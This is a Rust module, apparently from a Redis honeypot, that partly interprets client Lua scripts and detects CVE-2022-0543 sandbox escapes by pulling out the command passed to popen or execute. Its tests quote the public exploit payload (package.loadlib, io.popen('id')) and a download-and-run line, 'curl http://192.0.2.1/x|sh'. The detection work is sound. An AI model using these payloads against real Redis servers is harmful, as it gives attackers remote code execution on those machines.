//! Lua, as far as scripts of clients and attackers need it. It is not run: statements of one kind are read (`local`, `return`, calls, `if`), with literals, `KEYS`, `ARGV` and `redis.call`,
//! which is what locks, counters and probes are made of. A script that reaches for a shell (CVE-2022-0543: Debian's and Ubuntu's packages
//! left the table `package` to scripts) is known by its text, and its command goes to the machine behind the logins.

use std::collections::HashMap;

use super::reply::Reply;
use super::script::{Token, tokens};
use super::value::{Lua, as_reply, compare, number_of, of_reply, text_of};

/// Steps, nesting and names of one script.
const STEPS: u32 = 4_000;
const DEPTH: u32 = 24;
const NAMES: usize = 64;

/// The command that a script wants run, if it wants one: the argument of `popen` or `execute`.
pub(super) fn shell_command(
    script: &[u8],
    keys: &[Vec<u8>],
    arguments: &[Vec<u8>],
) -> Option<Vec<u8>> {
    let text = String::from_utf8_lossy(script).into_owned();
    let place = ["popen", "os.execute", ".execute"]
        .iter()
        .find_map(|name| text.find(name).map(|place| place + name.len()))?;
    let mut reader =
        Reader { tokens: tokens(&text.as_bytes()[place..]).ok()?, ..Reader::new(keys, arguments) };
    // Names given before, such as `local cmd = "id"`.
    for line in text[..place].split(['\n', ';']) {
        let Some((name, value)) =
            line.trim().strip_prefix("local ").and_then(|rest| rest.split_once('='))
        else {
            continue;
        };
        let mut inner = Reader {
            tokens: tokens(value.as_bytes()).unwrap_or_default(),
            ..Reader::new(keys, arguments)
        };
        if let Ok(value @ Lua::Text(_)) = inner.expression(0, &mut |_| Reply::Nil)
            && reader.names.len() < NAMES
        {
            reader.names.insert(name.trim().to_owned(), value);
        }
    }
    reader.eat("(");
    match reader.expression(0, &mut |_| Reply::Nil) {
        Ok(Lua::Text(command)) if !command.is_empty() => Some(command),
        _ => None,
    }
}

/// Which global name is missed first, where the release has no `package`.
pub(super) fn missing_global(script: &[u8]) -> Option<&'static str> {
    let text = String::from_utf8_lossy(script);
    let names = ["package", "io", "os", "require", "dofile", "debug", "loadfile"];
    let found = names.iter().filter_map(|name| {
        let place = text.match_indices(name).find(|(place, _)| {
            let before = text[..*place].chars().next_back();
            let after = text[place + name.len()..].chars().next();
            !before.is_some_and(|letter| letter.is_alphanumeric() || "_.\"'".contains(letter))
                && after.is_some_and(|letter| letter == '.' || letter == '(')
        });
        place.map(|(place, _)| (place, *name))
    });
    found.min().map(|(_, name)| name)
}

/// What the script gives; `Err` where it cannot be read, and how it fails.
pub(super) fn run(
    script: &[u8],
    keys: &[Vec<u8>],
    arguments: &[Vec<u8>],
    call: &mut dyn FnMut(&[Vec<u8>]) -> Reply,
) -> Result<Reply, Reply> {
    let mut reader =
        Reader { tokens: tokens(script).map_err(|_| Reply::Nil)?, ..Reader::new(keys, arguments) };
    match reader.block(0, true, call) {
        Ok(Flow::Returned(value)) => Ok(as_reply(value)),
        Ok(Flow::Done) => Ok(Reply::Nil),
        Err(Stop::Failed(text)) => Err(Reply::Error(text)),
        Err(Stop::Unread) => Err(Reply::Nil),
    }
}

enum Stop {
    /// Beyond what is read here.
    Unread,
    /// The script fails, with this error.
    Failed(String),
}

enum Flow {
    Done,
    Returned(Lua),
}

type Caller<'a> = &'a mut dyn FnMut(&[Vec<u8>]) -> Reply;

/// Reads and carries out at once.
struct Reader<'a> {
    tokens: Vec<Token>,
    place: usize,
    steps: u32,
    names: HashMap<String, Lua>,
    /// What is read now is not carried out.
    idle: bool,
    keys: &'a [Vec<u8>],
    arguments: &'a [Vec<u8>],
}

impl<'a> Reader<'a> {
    fn new(keys: &'a [Vec<u8>], arguments: &'a [Vec<u8>]) -> Self {
        Self {
            tokens: Vec::new(),
            place: 0,
            steps: 0,
            names: HashMap::new(),
            idle: false,
            keys,
            arguments,
        }
    }

    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.place)
    }

    fn is(&self, word: &str) -> bool {
        match self.peek() {
            Some(Token::Name(name)) => name == word,
            Some(Token::Sign(sign)) => *sign == word,
            _ => false,
        }
    }

    fn eat(&mut self, word: &str) -> bool {
        let found = self.is(word);
        self.place += usize::from(found);
        found
    }

    fn expect(&mut self, word: &str) -> Result<(), Stop> {
        if self.eat(word) { Ok(()) } else { Err(Stop::Unread) }
    }

    fn name(&mut self) -> Result<String, Stop> {
        let Some(Token::Name(name)) = self.peek().cloned() else { return Err(Stop::Unread) };
        self.place += 1;
        Ok(name)
    }

    /// Statements up to the end of their block; `live` where they are carried out and not stepped over.
    fn block(&mut self, depth: u32, live: bool, call: Caller<'_>) -> Result<Flow, Stop> {
        let mut returned = None;
        loop {
            self.steps += 1;
            if self.steps > STEPS || depth > DEPTH {
                return Err(Stop::Unread);
            }
            while self.eat(";") {}
            if self.peek().is_none() || self.is("end") || self.is("else") || self.is("elseif") {
                return Ok(returned.map_or(Flow::Done, Flow::Returned));
            }
            let active = live && returned.is_none();
            if self.eat("return") {
                let bare = self.peek().is_none() || self.is("end") || self.is(";");
                let value = if bare { Lua::Nil } else { self.value(depth, active, call)? };
                if active {
                    returned = Some(value);
                }
            } else if self.eat("if") {
                if let Flow::Returned(value) = self.choice(depth, active, call)? {
                    returned = Some(value);
                }
            } else {
                self.statement(depth, active, call)?;
            }
        }
    }

    fn choice(&mut self, depth: u32, live: bool, call: Caller<'_>) -> Result<Flow, Stop> {
        let (mut done, mut flow) = (!live, Flow::Done);
        loop {
            let holds = !matches!(self.value(depth, !done, call)?, Lua::Nil | Lua::Bool(false));
            self.expect("then")?;
            let taken = holds && !done;
            let inner = self.block(depth + 1, taken, call)?;
            if taken {
                (done, flow) = (true, inner);
            }
            if self.eat("elseif") {
                continue;
            }
            if self.eat("else") {
                let inner = self.block(depth + 1, !done, call)?;
                if !done {
                    flow = inner;
                }
            }
            self.expect("end")?;
            return Ok(flow);
        }
    }

    fn statement(&mut self, depth: u32, live: bool, call: Caller<'_>) -> Result<(), Stop> {
        let local = self.eat("local");
        let assigns = matches!(self.tokens.get(self.place + 1), Some(Token::Sign("=")));
        if local || assigns {
            let name = self.name()?;
            let value = if self.eat("=") { self.value(depth, live, call)? } else { Lua::Nil };
            if live && (self.names.len() < NAMES || self.names.contains_key(&name)) {
                self.names.insert(name, value);
            }
            return Ok(());
        }
        self.value(depth, live, call).map(drop)
    }

    /// A value, or nothing where it is stepped over.
    fn value(&mut self, depth: u32, live: bool, call: Caller<'_>) -> Result<Lua, Stop> {
        if live {
            return self.expression(depth, call);
        }
        self.stepped_over(|reader, idle| reader.expression(depth, idle))
    }

    fn expression(&mut self, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        let mut left = self.conjunction(depth, call)?;
        while self.eat("or") {
            if left.holds() {
                self.stepped_over(|reader, idle| reader.conjunction(depth, idle))?;
            } else {
                left = self.conjunction(depth, call)?;
            }
        }
        Ok(left)
    }

    fn conjunction(&mut self, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        let mut left = self.comparison(depth, call)?;
        while self.eat("and") {
            if left.holds() {
                left = self.comparison(depth, call)?;
            } else {
                self.stepped_over(|reader, idle| reader.comparison(depth, idle))?;
            }
        }
        Ok(left)
    }

    /// Reads what is not carried out.
    fn stepped_over(
        &mut self,
        read: impl FnOnce(&mut Self, Caller<'_>) -> Result<Lua, Stop>,
    ) -> Result<Lua, Stop> {
        let before = std::mem::replace(&mut self.idle, true);
        let value = read(self, &mut |_| Reply::Nil);
        self.idle = before;
        value
    }

    fn comparison(&mut self, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        self.steps += 1;
        if depth > DEPTH || self.steps > STEPS {
            return Err(Stop::Unread);
        }
        let left = self.sum(depth, call)?;
        for sign in ["==", "~=", "<=", ">=", "<", ">"] {
            if self.eat(sign) {
                let right = self.sum(depth, call)?;
                return if self.idle {
                    Ok(Lua::Nil)
                } else {
                    compare(sign, &left, &right).map_err(|fault| Stop::Failed(fault.to_owned()))
                };
            }
        }
        Ok(left)
    }

    fn sum(&mut self, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        let mut left = self.operand(depth, call)?;
        loop {
            self.steps += 1;
            if self.steps > STEPS {
                return Err(Stop::Unread);
            }
            if self.eat("..") {
                let right = self.operand(depth, call)?;
                left = Lua::Text([self.text(&left)?, self.text(&right)?].concat());
                if self.text(&left)?.len() > super::store::BYTES {
                    return Err(Stop::Unread);
                }
            } else if self.is("+") || self.is("-") {
                let minus = self.is("-");
                self.place += 1;
                let right = self.operand(depth, call)?;
                let (number, right) = (self.number(&left)?, self.number(&right)?);
                left = Lua::Number(if minus { number - right } else { number + right });
            } else {
                return Ok(left);
            }
        }
    }

    /// The text of a value; none is needed of what is not carried out.
    fn text(&self, value: &Lua) -> Result<Vec<u8>, Stop> {
        text_of(value).or_else(|| self.idle.then(Vec::new)).ok_or(Stop::Unread)
    }

    fn number(&self, value: &Lua) -> Result<f64, Stop> {
        number_of(value).or_else(|| self.idle.then_some(0.0)).ok_or(Stop::Unread)
    }

    fn operand(&mut self, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        let token = self.peek().cloned().ok_or(Stop::Unread)?;
        self.place += 1;
        match token {
            Token::Text(text) => Ok(Lua::Text(text)),
            Token::Number(number) => Ok(Lua::Number(number)),
            Token::Sign("-") => {
                let value = self.operand(depth + 1, call)?;
                Ok(Lua::Number(-self.number(&value)?))
            }
            Token::Sign("(") => {
                let value = self.expression(depth + 1, call)?;
                self.expect(")")?;
                Ok(value)
            }
            Token::Sign("{") => Ok(Lua::Table(self.list("}", depth, call)?)),
            Token::Sign(_) => Err(Stop::Unread),
            Token::Name(name) => self.named(&name, depth, call),
        }
    }

    fn list(&mut self, end: &str, depth: u32, call: Caller<'_>) -> Result<Vec<Lua>, Stop> {
        let mut items = Vec::new();
        while !self.eat(end) {
            items.push(self.expression(depth + 1, call)?);
            if !self.eat(",") && !self.is(end) {
                return Err(Stop::Unread);
            }
        }
        Ok(items)
    }

    fn named(&mut self, name: &str, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        match name {
            "nil" => return Ok(Lua::Nil),
            "true" | "false" => return Ok(Lua::Bool(name == "true")),
            "not" => {
                let value = self.operand(depth + 1, call)?;
                return Ok(Lua::Bool(matches!(value, Lua::Nil | Lua::Bool(false))));
            }
            "KEYS" | "ARGV" => {
                let words = if name == "KEYS" { self.keys } else { self.arguments };
                if !self.eat("[") {
                    return Ok(Lua::Table(
                        words.iter().map(|word| Lua::Text(word.clone())).collect(),
                    ));
                }
                let place = number_of(&self.expression(depth + 1, call)?).ok_or(Stop::Unread)?;
                self.expect("]")?;
                #[expect(
                    clippy::cast_possible_truncation,
                    clippy::cast_sign_loss,
                    reason = "a place outside is none"
                )]
                let found = words.get((place as usize).wrapping_sub(1));
                return Ok(found.map_or(Lua::Nil, |word| Lua::Text(word.clone())));
            }
            "tonumber" | "tostring" => {
                self.expect("(")?;
                let value = self.list(")", depth, call)?.into_iter().next().unwrap_or(Lua::Nil);
                return Ok(match name {
                    "tonumber" => number_of(&value).map_or(Lua::Nil, Lua::Number),
                    _ => Lua::Text(text_of(&value).unwrap_or_else(|| b"nil".to_vec())),
                });
            }
            "redis" => return self.call(depth, call),
            _ => {}
        }
        if let Some(value) = self.names.get(name) {
            return Ok(value.clone());
        }
        if self.idle {
            return Ok(Lua::Nil);
        }
        // What is called or looked into may be anything of Lua's.
        if self.is("(") || self.is(".") || self.is("[") {
            return Err(Stop::Unread);
        }
        Err(Stop::Failed(format!(
            "Script attempted to access nonexistent global variable '{name}'"
        )))
    }

    /// `redis.…(…)`.
    fn call(&mut self, depth: u32, call: Caller<'_>) -> Result<Lua, Stop> {
        self.expect(".")?;
        let function = self.name()?;
        self.expect("(")?;
        let arguments = self.list(")", depth, call)?;
        let first = arguments.first().and_then(text_of).unwrap_or_default();
        let first = String::from_utf8_lossy(&first).into_owned();
        Ok(match function.as_str() {
            "call" | "pcall" => {
                if self.idle {
                    return Ok(Lua::Nil);
                }
                let words: Option<Vec<Vec<u8>>> = arguments.iter().map(text_of).collect();
                let reply = call(&words.filter(|words| !words.is_empty()).ok_or(Stop::Unread)?);
                match of_reply(reply) {
                    Lua::Error(text) if function == "call" => return Err(Stop::Failed(text)),
                    value => value,
                }
            }
            "status_reply" => Lua::Status(first),
            "error_reply" => Lua::Error(first),
            "log" | "replicate_commands" | "breakpoint" => Lua::Nil,
            "sha1hex" => Lua::Text(digest(first.as_bytes()).into_bytes()),
            _ => return Err(Stop::Unread),
        })
    }
}

/// The name under which a script is kept.
pub(super) fn digest(script: &[u8]) -> String {
    use sha1::{Digest as _, Sha1};

    Sha1::digest(script).iter().map(|byte| format!("{byte:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_of_the_sandbox_escape_is_found_as_its_exploits_write_it() {
        let public = b"local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); local io = io_l(); local f = io.popen(\"id\", \"r\"); local res = f:read(\"*a\"); f:close(); return res";
        assert_eq!(shell_command(public, &[], &[]), Some(b"id".to_vec()));
        assert_eq!(missing_global(public), Some("package"));
        let other = b"local cmd = 'curl http://192.0.2.1/x|sh'\nlocal f = io.popen(cmd .. ' 2>&1')";
        assert_eq!(
            shell_command(other, &[], &[]),
            Some(b"curl http://192.0.2.1/x|sh 2>&1".to_vec())
        );
        let argument = b"local f = io.popen(ARGV[1], 'r')";
        assert_eq!(
            shell_command(argument, &[], &[b"uname -a".to_vec()]),
            Some(b"uname -a".to_vec())
        );
        assert_eq!(shell_command(b"return redis.call('get', 'a')", &[], &[]), None);
    }

    #[test]
    fn locks_and_counters_are_carried_out() {
        let mut asked = Vec::new();
        let script = b"if redis.call(\"get\",KEYS[1]) == ARGV[1] then return redis.call(\"del\",KEYS[1]) else return 0 end";
        let mut call = |words: &[Vec<u8>]| {
            asked.push(String::from_utf8_lossy(&words.join(&b' ')).into_owned());
            if words[0] == b"get" { Reply::text("mine") } else { Reply::Integer(1) }
        };
        let given = run(script, &[b"lock".to_vec()], &[b"mine".to_vec()], &mut call);
        assert_eq!(given, Ok(Reply::Integer(1)));
        let given = run(script, &[b"lock".to_vec()], &[b"other".to_vec()], &mut call);
        assert_eq!(given, Ok(Reply::Integer(0)));
        let release = b"local token = redis.call('get', KEYS[1])\nif not token or token ~= ARGV[1] then\n return 0\nend\nredis.call('del', KEYS[1])\nreturn 1";
        let given = run(release, &[b"lock".to_vec()], &[b"mine".to_vec()], &mut call);
        assert_eq!(given, Ok(Reply::Integer(1)));
        assert_eq!(asked, ["get lock", "del lock", "get lock", "get lock", "del lock"]);
        let mut none = |_: &[Vec<u8>]| Reply::Nil;
        assert_eq!(
            run(release, &[b"k".to_vec()], &[b"x".to_vec()], &mut none),
            Ok(Reply::Integer(0))
        );
        let table = run(b"local a = 1 return {a, a+1, 'x'..a, nil, 4}", &[], &[], &mut none);
        assert_eq!(
            table,
            Ok(Reply::Array(vec![Reply::Integer(1), Reply::Integer(2), Reply::text("x1")]))
        );
        assert!(matches!(run(b"return x", &[], &[], &mut none), Err(Reply::Error(_))));
        assert!(run(&b"(".repeat(5_000), &[], &[], &mut none).is_err());
    }
}
